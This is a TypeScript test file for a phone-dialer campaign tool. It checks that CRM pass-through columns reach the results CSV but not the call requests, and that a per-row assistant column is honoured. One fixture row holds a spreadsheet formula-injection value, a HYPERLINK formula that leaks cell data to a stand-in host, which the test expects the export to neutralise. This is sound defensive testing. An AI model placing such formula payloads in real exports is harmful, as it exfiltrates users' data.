/**
 * Pass-through columns and per-row assistants on the real dial path: a
 * campaign with `id_column`, `keep_columns` and `assistant_column` dialed
 * against the simulator over HTTP; the results carry the columns (after the
 * fixed ones) and the assistant used, the simulator's request log shows what
 * was sent.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RESULT_COLUMNS } from '../src/campaign/row.js';
import { loadCampaignFile } from '../src/config/campaign.js';
import { writeResults } from '../src/results/export.js';
import { campaignIn, cleanupPrefix, openTestRuntime, startDialing, testPrefix, writeCampaign, type TestRuntime } from './helpers/dialer.js';
import { useSimulators } from './helpers/sim-http.js';

const prefix = testPrefix('passthru');
const simulator = useSimulators();
let dir: string;
let t: TestRuntime | undefined;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'dialer-passthru-'));
});
afterAll(async () => {
  await t?.rt.close();
  await cleanupPrefix(prefix);
  await rm(dir, { recursive: true, force: true });
});

interface PostBody {
  assistant_id: string;
  phoneNumber: string;
  customVariables: Array<{ key: string; value: string }>;
}

// HubSpot-like export: a record id, owner and lifecycle stage that belong in the results, not in the call.
const CSV = [
  'Record ID,First Name,Phone Number,Company,Lifecycle Stage,Script,Email',
  '1001,Ann,0412 000 101,Acme,lead,,ann@example.com',
  '1002,"=HYPERLINK(""http://x.example/?leak=""&A1)",0412 000 102,@Corp,customer,CE_ROW,bob@example.com',
  '1003,Cat,0412 000 103,-Minus,lead,,cat@example.com',
  '1004,Dan,12345,Bad,lead,,dan@example.com',
  '1005,Eve,0412 000 101,Dup,lead,,eve@example.com',
].join('\n') + '\n';

describe('pass-through columns and the assistant column', () => {
  it('stores id_column and keep_columns with the row, writes them after the fixed columns, never sends them', async () => {
    const sim = await simulator({ callDurationMs: { min: 100, max: 300 }, outcomes: { completed: 1 } });
    t = await openTestRuntime(prefix, sim);
    const results = path.join(dir, 'results.csv');
    const c = await campaignIn(path.join(dir, 'pt'), {
      name: 'pt', assistant_id: 'CE_MAIN', default_country: 'AU',
      phone_column: 'Phone Number', name_column: 'First Name',
      id_column: 'Record ID', keep_columns: ['Company', 'Lifecycle Stage'], assistant_column: 'Script',
      rate: { calls: 100, per_seconds: 1 }, poll: { interval_seconds: 0.2 }, results,
    }, CSV);
    const d = await startDialing(t.rt, c);
    try {
      expect(d.load).toMatchObject({ rows: 5, accepted: 3, rejected: 1, duplicates: 1 });
      await d.done(30_000);
    } finally {
      await d.stop();
    }

    const posts = sim.requests.filter((r) => r.method === 'POST' && r.path.startsWith('/calls')).map((r) => r.body as PostBody);
    expect(posts.map((p) => p.phoneNumber).sort()).toEqual(['+61412000101', '+61412000102', '+61412000103']);
    for (const p of posts) {
      const keys = p.customVariables.map((v) => v.key);
      // Default variables: every column but the phone, pass-through and assistant columns.
      expect(keys.sort()).toEqual(['Email', 'First Name']);
      expect(JSON.stringify(p)).not.toMatch(/Record ID|100[1-5]|Acme|Corp|Minus|Lifecycle|customer/);
    }
    const byPhone = new Map(posts.map((p) => [p.phoneNumber, p.assistant_id]));
    expect(byPhone.get('+61412000101')).toBe('CE_MAIN');
    expect(byPhone.get('+61412000102')).toBe('CE_ROW');

    await writeResults(t.rt.store, 'pt', results);
    const text = await readFile(results, 'utf8');
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual([...RESULT_COLUMNS, 'Record ID', 'Company', 'Lifecycle Stage']);
    const col = (name: string) => header!.indexOf(name);
    const byRow = new Map(rows.map((r) => [r[col('row')], r]));
    expect(byRow.get('1')!.slice(col('Record ID'))).toEqual(['1001', 'Acme', 'lead']);
    expect(byRow.get('1')![col('assistant')]).toBe('CE_MAIN');
    expect(byRow.get('2')![col('assistant')]).toBe('CE_ROW');
    // Formula-leading cells are neutralised; the E.164 number stays as it is.
    expect(byRow.get('2')![col('name')]).toBe(`'=HYPERLINK("http://x.example/?leak="&A1)`);
    expect(byRow.get('2')![col('Company')]).toBe("'@Corp");
    expect(byRow.get('3')![col('Company')]).toBe("'-Minus");
    expect(byRow.get('2')![col('phone')]).toBe('+61412000102');
    // Rejected and duplicate rows keep their id (the join back to the CRM) and have no assistant.
    expect(byRow.get('4')!.slice(col('Record ID'))).toEqual(['1004', 'Bad', 'lead']);
    expect(byRow.get('4')![col('outcome')]).toBe('rejected');
    expect(byRow.get('4')![col('assistant')]).toBe('');
    expect(byRow.get('5')![col('outcome')]).toBe('duplicate');
    expect(byRow.get('5')![col('Record ID')]).toBe('1005');
  });

  it('a pass-through column also listed in variables is sent', async () => {
    const sim = await simulator({ callDurationMs: { min: 100, max: 200 }, outcomes: { completed: 1 } });
    const t2 = await openTestRuntime(prefix, sim);
    try {
      const c = await campaignIn(path.join(dir, 'pt2'), {
        name: 'pt2', assistant_id: 'CE_MAIN', default_country: 'AU', phone_column: 'Phone Number', name_column: 'First Name',
        id_column: 'Record ID', keep_columns: ['Company'], variables: ['First Name', 'Company'],
        rate: { calls: 100, per_seconds: 1 }, poll: { interval_seconds: 0.2 }, results: path.join(dir, 'r2.csv'),
      }, CSV.split('\n').slice(0, 2).join('\n') + '\n');
      const d = await startDialing(t2.rt, c);
      try {
        await d.done(30_000);
      } finally {
        await d.stop();
      }
      const posts = sim.requests.filter((r) => r.method === 'POST' && r.path.startsWith('/calls')).map((r) => r.body as PostBody);
      expect(posts).toHaveLength(1);
      expect(posts[0]!.customVariables).toEqual([{ key: 'First Name', value: 'Ann' }, { key: 'Company', value: 'Acme' }]);
    } finally {
      await t2.rt.close();
    }
  });

  it('refuses a pass-through column named like a results column, and one the header lacks, naming file and key', async () => {
    const file = await writeCampaign(path.join(dir, 'bad'), { name: 'bad', assistant_id: 'CE_1', keep_columns: ['status'] }, 'name,phone,status\n');
    await expect(loadCampaignFile(file)).rejects.toThrow(`${file}: keep_columns.0: "status" is also a results column`);
    const c = await campaignIn(path.join(dir, 'bad2'), { name: 'bad2', assistant_id: 'CE_1', id_column: 'crm_id' }, 'name,phone\nA,0412000101\n');
    const t3 = await openTestRuntime(prefix);
    try {
      const { loadCampaign } = await import('../src/loader/load.js');
      await expect(loadCampaign({ store: t3.rt.store, queues: t3.rt.queues, log: t3.rt.log, now: () => Date.now() }, c)).rejects.toThrow('line 1: id_column "crm_id" is not a column of the header');
    } finally {
      await t3.rt.close();
    }
  });
});
